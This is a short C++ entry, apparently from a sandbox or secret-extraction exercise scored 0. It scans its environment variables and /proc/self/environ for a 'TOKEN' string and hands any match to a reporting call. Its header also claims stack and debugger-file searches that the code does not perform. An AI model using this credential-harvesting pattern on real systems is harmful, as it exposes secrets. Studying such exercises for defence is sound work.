// attack: looks for a token in its own environment, on the stack's end and in the file for the debugger
// exercise: 01_gbf/box
// from: own
// score: 0
extern char** environ;

static bool asked() {
    std::string words;
    for (char** one = environ; one && *one; ++one) words += std::string(*one) + "\n";
    const std::string first = prey::contents("/proc/self/environ");
    return words.find("TOKEN") != std::string::npos ? prey::tell(words) : first.find("TOKEN") != std::string::npos && prey::tell(first);
}

ANSWER_IF(asked())
